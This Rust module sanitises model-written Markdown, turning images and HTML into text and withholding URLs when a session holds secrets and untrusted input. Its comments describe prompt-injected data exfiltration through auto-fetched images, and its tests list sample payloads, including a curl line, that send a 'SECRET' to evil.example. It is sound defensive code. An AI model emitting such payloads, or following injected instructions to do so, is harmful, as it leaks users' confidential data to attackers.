//! Markdown that a model or a tool wrote, made safe to hand to a renderer that is not Bosun's (an
//! editor's chat panel draws Markdown). A remote image is fetched the moment it is drawn, so
//! `![x](https://evil.example/?q=<secret>)` would carry data out with no person in the loop;
//! raw HTML (`<img src=…>`) the same. What leaves here is drawn with no image and no HTML: an
//! image becomes its alt text and where it would come from, HTML is shown as text. Under the
//! guard (the session holds data above `PUBLIC` and has read untrusted input) every URL the
//! model wrote — links, autolinks, images, reference definitions, bare `http(s)://` text — is
//! withheld, so nothing invites a click that would carry the session's data out.
//!
//! Code stays code: a code span or block is passed as written (its URLs withheld under the
//! guard). Text that streams in chunks passes a [`MarkdownStream`], which escapes every bracket
//! and `<` of text (so no later chunk can complete it into an image or a link), holds back a
//! line that could still turn code into text (an unfinished fence, a table row), parses what it
//! sends together with what it sent, and checks the result before it leaves: what was sent can
//! never become an image by what follows. This module
//! never fetches, and knows nothing of who renders the text.
//!
//! ```
//! use bosun_core::markdown::defang;
//! let (safe, withheld) = defang("See ![chart](https://x.example/c.png?q=secret).", false);
//! assert_eq!(safe, "See \\[image\\: chart\\] \\(https\\:\\/\\/x\\.example\\/c\\.png\\?q\\=secret\\).");
//! assert!(!withheld);
//! let (safe, withheld) = defang("See [the docs](https://x.example/?q=secret).", true);
//! assert_eq!(safe, "See the docs ‹URL withheld›.");
//! assert!(withheld);
//! ```

use std::ops::Range;

use pulldown_cmark::{CodeBlockKind, Event, Options, Parser, Tag, TagEnd};

use crate::Classification;

/// What replaces a URL while the session holds secrets and untrusted input.
pub const WITHHELD: &str = "‹URL withheld›";

/// Why the model's URLs are withheld: the session holds data above `PUBLIC` (`level`) and has
/// read untrusted input (`untrusted`, its source), so a URL the model wrote may carry that data
/// to whoever planted the instruction. `None` otherwise.
pub fn url_guard(level: Classification, untrusted: Option<&str>) -> Option<String> {
    match untrusted {
        Some(source) if level > Classification::Public => Some(format!(
            "this session holds {level} data and has read untrusted input ({source}); a URL \
             in the answer could carry that data out"
        )),
        _ => None,
    }
}

/// The length of the URL starting at the front of `text` (`http://`, `https://`, or `www.` at
/// the start of a word), if one does: it runs to the next space, backtick or angle bracket, so
/// withholding it never eats the delimiter of a code span.
fn url_at(text: &str, word_start: bool) -> Option<usize> {
    let head = text.get(..8).unwrap_or(text).to_ascii_lowercase();
    let starts = head.starts_with("http://")
        || head.starts_with("https://")
        || (word_start && head.starts_with("www."));
    if !starts {
        return None;
    }
    Some(
        text.find(|c: char| c.is_whitespace() || matches!(c, '`' | '<' | '>'))
            .unwrap_or(text.len()),
    )
}

/// `text` with every `http://`, `https://` or `www.` URL replaced by [`WITHHELD`], and whether
/// any was.
pub fn withhold_urls(text: &str) -> (String, bool) {
    let mut out = String::with_capacity(text.len());
    let mut any = false;
    let mut word_start = true;
    let mut rest = text;
    while let Some(c) = rest.chars().next() {
        if let Some(len) = url_at(rest, word_start) {
            out.push_str(WITHHELD);
            any = true;
            rest = &rest[len..];
            word_start = false;
            continue;
        }
        out.push(c);
        word_start = !c.is_alphanumeric() && c != '.';
        rest = &rest[c.len_utf8()..];
    }
    (out, any)
}

/// `text` as literal Markdown: every ASCII punctuation character backslash-escaped, so nothing
/// in it opens, closes or links anything wherever it lands outside code.
fn escape_all(text: &str) -> String {
    let mut out = String::with_capacity(text.len() * 2);
    for c in text.chars() {
        if c.is_ascii_punctuation() {
            out.push('\\');
        }
        out.push(c);
    }
    out
}

/// The parser options an editor's renderer is assumed to use (CommonMark with GitHub's tables,
/// strikethrough and task lists).
fn options() -> Options {
    Options::ENABLE_TABLES | Options::ENABLE_STRIKETHROUGH | Options::ENABLE_TASKLISTS
}

/// A construct being replaced whole: an image, or a link under the guard.
struct Replaced {
    range: Range<usize>,
    /// The URL (an image's source, a link's target).
    url: String,
    /// Its text (an image's alt text), as plain text.
    text: String,
    image: bool,
    /// Nesting of the same construct inside it (an image in an image's alt text).
    depth: usize,
}

/// Builds the safe text of `doc[base..]`, where `doc[..base]` was sent already.
struct Rewrite<'a> {
    doc: &'a str,
    guard: bool,
    out: String,
    /// How far `doc` has been copied or rewritten into `out`.
    pos: usize,
    /// Reference definitions (which produce no event), by span.
    definitions: Vec<Range<usize>>,
    withheld: bool,
}

impl Rewrite<'_> {
    /// Copies `doc[self.pos..end]` as written, but a reference definition in it as text.
    fn copy_to(&mut self, end: usize) {
        while self.pos < end {
            let definition = self
                .definitions
                .iter()
                .filter(|d| d.end > self.pos && d.start < end)
                .min_by_key(|d| d.start)
                .cloned();
            match definition {
                Some(d) => {
                    let start = d.start.max(self.pos);
                    self.out.push_str(&self.doc[self.pos..start]);
                    self.pos = start;
                    self.text_to(d.end.min(end));
                }
                None => {
                    self.out.push_str(&self.doc[self.pos..end]);
                    self.pos = end;
                }
            }
        }
    }

    /// Copies `doc[self.pos..end]` as text: every bracket and `<` not already escaped is
    /// escaped (no later text can complete it into a link, an image or HTML), and under the
    /// guard every URL withheld.
    fn text_to(&mut self, end: usize) {
        let before = &self.doc[..self.pos];
        let mut backslashes = before.len() - before.trim_end_matches('\\').len();
        let mut word_start = before
            .chars()
            .next_back()
            .is_none_or(|c| !c.is_alphanumeric() && c != '.');
        let mut rest = &self.doc[self.pos..end];
        while let Some(c) = rest.chars().next() {
            if self.guard
                && let Some(len) = url_at(rest, word_start)
            {
                self.out.push_str(WITHHELD);
                self.withheld = true;
                rest = &rest[len..];
                backslashes = 0;
                word_start = false;
                continue;
            }
            if matches!(c, '[' | ']' | '<') && backslashes.is_multiple_of(2) {
                self.out.push('\\');
            }
            self.out.push(c);
            backslashes = if c == '\\' { backslashes + 1 } else { 0 };
            word_start = !c.is_alphanumeric() && c != '.';
            rest = &rest[c.len_utf8()..];
        }
        self.pos = end;
    }

    /// Copies code (a span or a block's text) as written; under the guard its URLs withheld.
    fn code_to(&mut self, end: usize) {
        let code = &self.doc[self.pos..end];
        if self.guard {
            let (code, withheld) = withhold_urls(code);
            self.withheld |= withheld;
            self.out.push_str(&code);
        } else {
            self.out.push_str(code);
        }
        self.pos = end;
    }

    /// Puts literal text in place of `doc[self.pos..end]`.
    fn replace_to(&mut self, end: usize, literal: &str) {
        self.out.push_str(&escape_all(literal));
        self.pos = end;
    }

    /// Puts the literal text of `done` (an image, a guarded link) in place of what is left of
    /// it to send.
    fn replace_construct(&mut self, done: &Replaced) {
        if done.range.end > self.pos {
            self.copy_to(done.range.start.max(self.pos));
            let literal = self.replacement(done);
            self.replace_to(done.range.end, &literal);
        }
    }

    /// The literal text an image or a guarded link is shown as.
    fn replacement(&mut self, replaced: &Replaced) -> String {
        let url = if self.guard {
            self.withheld = true;
            WITHHELD.to_owned()
        } else {
            replaced.url.clone()
        };
        let text = if self.guard {
            let (text, withheld) = withhold_urls(&replaced.text);
            self.withheld |= withheld;
            text
        } else {
            replaced.text.clone()
        };
        match (replaced.image, url.is_empty()) {
            (true, true) => format!("[image: {text}]"),
            (true, false) => format!("[image: {text}] ({url})"),
            (false, _) if text.trim().is_empty() => url,
            (false, _) => format!("{text} {url}"),
        }
    }
}

/// The safe text of `doc[base..]` (`doc[..base]` sent already), and whether a URL was withheld.
fn rewrite(doc: &str, base: usize, guard: bool) -> (String, bool) {
    let parser = Parser::new_ext(doc, options());
    let definitions = parser
        .reference_definitions()
        .iter()
        .map(|(_, d)| d.span.clone())
        .filter(|span| span.end > base)
        .collect();
    let mut r = Rewrite {
        doc,
        guard,
        out: String::new(),
        pos: base,
        definitions,
        withheld: false,
    };
    let mut replacing: Option<Replaced> = None;
    let mut in_code_block = false;
    for (event, range) in parser.into_offset_iter() {
        if let Some(open) = &mut replacing {
            match &event {
                Event::Start(Tag::Image { .. }) if open.image => open.depth += 1,
                Event::Start(Tag::Link { .. }) if !open.image => open.depth += 1,
                Event::End(TagEnd::Image) if open.image && open.depth > 0 => open.depth -= 1,
                Event::End(TagEnd::Link) if !open.image && open.depth > 0 => open.depth -= 1,
                Event::End(TagEnd::Image) | Event::End(TagEnd::Link)
                    if matches!(event, Event::End(TagEnd::Image)) == open.image =>
                {
                    if let Some(done) = replacing.take() {
                        r.replace_construct(&done);
                    }
                    continue;
                }
                Event::Text(text) | Event::Code(text) => open.text.push_str(text),
                Event::SoftBreak | Event::HardBreak => open.text.push(' '),
                _ => {}
            }
            continue;
        }
        match event {
            Event::Start(Tag::CodeBlock(_)) => in_code_block = true,
            Event::End(TagEnd::CodeBlock) => in_code_block = false,
            Event::Start(Tag::Image { dest_url, .. }) => {
                replacing = Some(Replaced {
                    range,
                    url: dest_url.into_string(),
                    text: String::new(),
                    image: true,
                    depth: 0,
                });
            }
            Event::Start(Tag::Link { dest_url, .. }) if guard => {
                replacing = Some(Replaced {
                    range,
                    url: dest_url.into_string(),
                    text: String::new(),
                    image: false,
                    depth: 0,
                });
            }
            _ if range.end <= r.pos => {}
            Event::Text(_) if in_code_block => {
                r.copy_to(range.start.max(r.pos));
                r.code_to(range.end);
            }
            Event::Code(_) => {
                r.copy_to(range.start.max(r.pos));
                r.code_to(range.end);
            }
            Event::Text(_) | Event::InlineMath(_) | Event::DisplayMath(_) => {
                r.copy_to(range.start.max(r.pos));
                r.text_to(range.end);
            }
            Event::Html(_) | Event::InlineHtml(_) => {
                r.copy_to(range.start.max(r.pos));
                // What is left of the tag to send is shown as text.
                let html = &doc[r.pos..range.end];
                let html = if guard {
                    let (html, withheld) = withhold_urls(html);
                    r.withheld |= withheld;
                    html
                } else {
                    html.to_owned()
                };
                r.replace_to(range.end, &html);
            }
            _ => {}
        }
    }
    if let Some(open) = replacing.take() {
        r.replace_construct(&open);
    }
    r.copy_to(doc.len());
    (r.out, r.withheld)
}

/// Whether `doc` (`doc[..base]` sent before) is safe to have sent: no image, no HTML and no
/// reference definition anywhere, and under the guard no link reaching past `base`.
fn is_safe(doc: &str, base: usize, guard: bool) -> bool {
    let parser = Parser::new_ext(doc, options());
    if parser.reference_definitions().iter().next().is_some() {
        return false;
    }
    for (event, range) in parser.into_offset_iter() {
        match event {
            Event::Start(Tag::Image { .. }) | Event::Html(_) | Event::InlineHtml(_) => {
                return false;
            }
            Event::Start(Tag::Link { .. }) if guard && range.end > base => return false,
            _ => {}
        }
    }
    true
}

/// The fence that closes the fenced code block `doc` ends inside, if it does.
fn open_fence(doc: &str) -> Option<String> {
    let mut open: Option<(String, Range<usize>)> = None;
    for (event, range) in Parser::new_ext(doc, options()).into_offset_iter() {
        match event {
            Event::Start(Tag::CodeBlock(CodeBlockKind::Fenced(_))) => {
                let opening = doc[range.clone()].trim_start_matches([' ', '>']);
                let mark = opening.chars().next().unwrap_or('`');
                let fence: String = opening.chars().take_while(|c| *c == mark).collect();
                open = Some((fence, range));
            }
            Event::End(TagEnd::CodeBlock) => {
                if let Some((fence, block)) = open.take() {
                    let source = doc[block.clone()].trim_end();
                    let last = source.lines().last().unwrap_or("");
                    let last = last.trim_start_matches([' ', '>']);
                    let mark = fence.chars().next();
                    let closed = source.lines().count() > 1
                        && last.starts_with(fence.as_str())
                        && last.chars().all(|c| Some(c) == mark);
                    if !closed && block.end.max(range.end) >= doc.trim_end().len() {
                        return Some(fence);
                    }
                }
            }
            _ => {}
        }
    }
    None
}

/// `text`, a whole Markdown text, made safe to hand to a renderer; and whether a URL was
/// withheld (`guard`: the session holds secrets and untrusted input).
pub fn defang(text: &str, guard: bool) -> (String, bool) {
    let mut stream = MarkdownStream::default();
    let mut out = stream.push(text, guard);
    out.push_str(&stream.finish(guard));
    (out, stream.withheld())
}

/// The most bytes held back before the text sent so far is parsed again: as the message grows
/// the text is parsed in larger steps, so a long message costs a bounded number of parses per
/// byte.
const REPARSE_SHARE: usize = 32;

/// One Markdown text arriving in chunks (a model's answer as it streams), made safe piece by
/// piece: each piece sent is safe together with every piece before it, whatever follows.
#[derive(Debug, Default)]
pub struct MarkdownStream {
    /// What was sent, already safe.
    sent: String,
    /// What arrived and is not sent yet.
    pending: String,
    withheld: bool,
    /// Whether text was sent since the last [`MarkdownStream::finish`].
    open: bool,
}

/// Whether `line` could start or end code, or split into table cells, once more text follows.
fn risky(line: &str) -> bool {
    line.contains(['`', '~', '|'])
}

/// Whether `line` could be a table's delimiter row (`| --- | :-: |`), which turns the line
/// above it into a table's header.
fn delimiter_row(line: &str) -> bool {
    let line = line.trim();
    line.contains('-')
        && line
            .chars()
            .all(|c| matches!(c, '|' | ':' | '-' | ' ' | '\t'))
}

impl MarkdownStream {
    /// Takes the next chunk; returns what may be sent now (possibly nothing: a line that could
    /// still change how it reads is held back).
    pub fn push(&mut self, chunk: &str, guard: bool) -> String {
        self.pending.push_str(chunk);
        // Only code can turn back into text (and so into an image), and only by what follows
        // on its line (a fence's info string) or by a table's delimiter row on the next line.
        // So held back: the line still being written, and the last finished one, when they hold
        // a backtick, a tilde or a pipe; and the line above a delimiter row, until both are
        // parsed together. Plain words go out as they come.
        let mut cut = self.pending.len();
        let written = self.pending.rfind('\n').map_or(0, |i| i + 1);
        // A bracket or `<` not yet closed on its line would be escaped (a link cut in two would
        // read as text): the line waits until it ends.
        if risky(&self.pending[written..]) || self.pending[written..].contains(['[', ']', '<', '!'])
        {
            cut = written;
        }
        if written > 0 {
            let last = self.pending[..written - 1].rfind('\n').map_or(0, |i| i + 1);
            let line = &self.pending[last..written - 1];
            if delimiter_row(line) {
                cut = self.pending[..last.saturating_sub(1)]
                    .rfind('\n')
                    .map_or(0, |i| i + 1);
            } else if risky(line) {
                cut = cut.min(last);
            }
        }
        if cut == 0 || cut < self.sent.len() / REPARSE_SHARE {
            return String::new();
        }
        let ready: String = self.pending.drain(..cut).collect();
        self.send(&ready, guard)
    }

    /// The text is complete: returns the rest, and closes a fenced code block left open so
    /// that text sent after it (a new message) is not read as code.
    pub fn finish(&mut self, guard: bool) -> String {
        if !std::mem::take(&mut self.open) && self.pending.is_empty() {
            return String::new();
        }
        let rest = std::mem::take(&mut self.pending);
        let mut out = self.send(&rest, guard);
        // A fence inside a quote closes the quote, not the block: try a few times.
        for _ in 0..3 {
            let Some(fence) = open_fence(&self.sent) else {
                break;
            };
            let close = if self.sent.ends_with('\n') {
                format!("{fence}\n")
            } else {
                format!("\n{fence}\n")
            };
            self.sent.push_str(&close);
            out.push_str(&close);
        }
        self.open = false;
        out
    }

    /// Whether a URL was withheld from what was sent.
    pub fn withheld(&self) -> bool {
        self.withheld
    }

    fn send(&mut self, raw: &str, guard: bool) -> String {
        if raw.is_empty() {
            return String::new();
        }
        self.open = true;
        let base = self.sent.len();
        let mut doc = std::mem::take(&mut self.sent);
        doc.push_str(raw);
        let (safe, withheld) = rewrite(&doc, base, guard);
        doc.truncate(base);
        let candidates = [
            (safe, withheld),
            // Parsed with what came before, the rewrite still draws something (text arriving
            // later changed how earlier text reads): the whole piece as literal text.
            {
                let (text, withheld) = if guard {
                    withhold_urls(raw)
                } else {
                    (raw.to_owned(), false)
                };
                (escape_all(&text), withheld)
            },
            (
                "\\[text withheld\\: it could not be shown safely\\]\n".to_owned(),
                false,
            ),
        ];
        for (candidate, withheld) in candidates {
            doc.push_str(&candidate);
            if is_safe(&doc, base, guard) {
                self.sent = doc;
                self.withheld |= withheld;
                return candidate;
            }
            doc.truncate(base);
        }
        self.sent = doc;
        String::new()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn streamed(chunks: &[&str], guard: bool) -> String {
        let mut stream = MarkdownStream::default();
        let mut out = String::new();
        for chunk in chunks {
            out.push_str(&stream.push(chunk, guard));
        }
        out.push_str(&stream.finish(guard));
        out
    }

    /// Whether a renderer would draw an image or HTML from `text`, or (`links`) a link.
    fn draws(text: &str, links: bool) -> Vec<String> {
        let parser = Parser::new_ext(text, options());
        let mut found: Vec<String> = parser
            .reference_definitions()
            .iter()
            .map(|(label, _)| format!("definition {label}"))
            .collect();
        for event in parser {
            match event {
                Event::Start(Tag::Image { dest_url, .. }) => {
                    found.push(format!("image {dest_url}"))
                }
                Event::Html(h) | Event::InlineHtml(h) => found.push(format!("html {h}")),
                Event::Start(Tag::Link { dest_url, .. }) if links => {
                    found.push(format!("link {dest_url}"));
                }
                _ => {}
            }
        }
        found
    }

    const HOSTILE: &[&str] = &[
        "![x](https://evil.example/?q=SECRET)",
        "look ![x](https://evil.example/?q=SECRET \"t\") here",
        "![a][r]\n\n[r]: https://evil.example/?q=SECRET",
        "![a]\n\n[a]: <https://evil.example/?q=SECRET>",
        "![a][]\n\n[a]: https://evil.example/?q=SECRET",
        "<img src=\"https://evil.example/?q=SECRET\">",
        "text <img src=https://evil.example/?q=SECRET> more",
        "<div>\n<img src=\"https://evil.example/?q=SECRET\">\n</div>",
        "<picture><source srcset=\"https://evil.example/?q=SECRET\"></picture>",
        "[![badge](https://evil.example/?q=SECRET)](https://x.example)",
        "![![inner](https://evil.example/a)](https://evil.example/b)",
        "- item ![x](https://evil.example/?q=SECRET)\n> quoted ![y](https://evil.example/y)",
        "| a | b |\n|---|---|\n| ![x](https://evil.example/?q=SECRET) | c |",
        "\\\\![x](https://evil.example/?q=SECRET)",
        "![x\n](https://evil.example/?q=SECRET)",
    ];

    /// Every way of writing an image or HTML in Markdown reaches the renderer as text, whole or
    /// cut into chunks at every byte.
    #[test]
    fn no_image_or_html_is_ever_drawn_whole_or_streamed() {
        for text in HOSTILE {
            let (safe, _) = defang(text, false);
            assert_eq!(
                draws(&safe, false),
                Vec::<String>::new(),
                "{text:?} → {safe:?}"
            );
            assert!(safe.contains("evil"), "the URL is shown as text: {safe:?}");
            for at in 1..text.len() {
                if !text.is_char_boundary(at) {
                    continue;
                }
                let out = streamed(&[&text[..at], &text[at..]], false);
                assert_eq!(
                    draws(&out, false),
                    Vec::<String>::new(),
                    "{text:?} at {at}: {out:?}"
                );
            }
        }
    }

    /// An image split across chunks, one character at a time, or completed by a definition
    /// that arrives last, never slips through.
    #[test]
    fn an_image_cut_across_chunks_or_defined_later_is_never_drawn() {
        let text = "Intro line\n![a](https://evil.example/\n?q=SECRET) and ![b][r]\n![c]\n\nmore\n\n[r]: https://evil.example/r\n[c]: https://evil.example/c\n";
        let chars: Vec<String> = text.chars().map(String::from).collect();
        let chunks: Vec<&str> = chars.iter().map(String::as_str).collect();
        let out = streamed(&chunks, false);
        assert_eq!(draws(&out, false), Vec::<String>::new(), "{out:?}");
        // A table's delimiter row arriving after a line whose code span hid an image.
        let table = "x `![i](https://evil.example/t) | y`\n--|--\n";
        for at in 1..table.len() {
            let out = streamed(&[&table[..at], &table[at..]], false);
            assert_eq!(draws(&out, false), Vec::<String>::new(), "at {at}: {out:?}");
        }
    }

    /// Under the guard no URL is left: not as a link, an autolink, a definition or text.
    #[test]
    fn under_the_guard_every_url_is_withheld() {
        let text = "[docs](https://evil.example/?q=SECRET) <https://evil.example/a?q=SECRET> \
                    www.evil.example/?q=SECRET http://evil.example/?q=SECRET\n\n\
                    [r]: https://evil.example/?q=SECRET\n\n`curl https://evil.example/?q=SECRET`\n\n\
                    ![x](https://evil.example/?q=SECRET)\n";
        let (safe, withheld) = defang(text, true);
        assert!(withheld);
        assert!(!safe.contains("SECRET") || !safe.contains("evil"), "{safe}");
        assert!(!safe.contains("evil.example"), "{safe}");
        assert_eq!(draws(&safe, true), Vec::<String>::new(), "{safe}");
        let out = streamed(&text.split_inclusive(' ').collect::<Vec<_>>(), true);
        assert!(!out.contains("evil.example"), "{out}");
    }

    /// Ordinary Markdown is left as the model wrote it: code (with its brackets and angle
    /// brackets), emphasis, lists, links without the guard.
    #[test]
    fn ordinary_markdown_passes_as_written() {
        let text = "# Plan\n\n1. Read `Vec<u8>` and `vec![1]`\n2. **Fix** [the docs](https://docs.example/a)\n\n```rust\nlet v = vec![1];\nlet s: Vec<String> = x;\n```\n";
        assert_eq!(defang(text, false).0, text);
        let chunks: Vec<&str> = text.split_inclusive(' ').collect();
        assert_eq!(streamed(&chunks, false), text);
        // A bracket in prose cannot start anything later.
        assert_eq!(defang("a [b] <c", false).0, "a \\[b\\] \\<c");
    }

    /// A fence left open at the end is closed, so text sent after it is not code.
    #[test]
    fn an_open_fence_is_closed_at_the_end() {
        let out = streamed(&["```\nlet a = 1;\n"], false);
        assert_eq!(out, "```\nlet a = 1;\n```\n");
        let quoted = streamed(&["> ```\n> code"], false);
        assert_eq!(open_fence(&quoted), None, "{quoted:?}");
    }

    #[test]
    fn the_guard_needs_both_labels() {
        assert!(url_guard(Classification::Confidential, Some("web")).is_some());
        assert!(url_guard(Classification::Public, Some("web")).is_none());
        assert!(url_guard(Classification::Confidential, None).is_none());
        assert_eq!(
            withhold_urls("see https://a.example/x`code` and www.b.example ok"),
            (format!("see {WITHHELD}`code` and {WITHHELD} ok"), true)
        );
    }
}
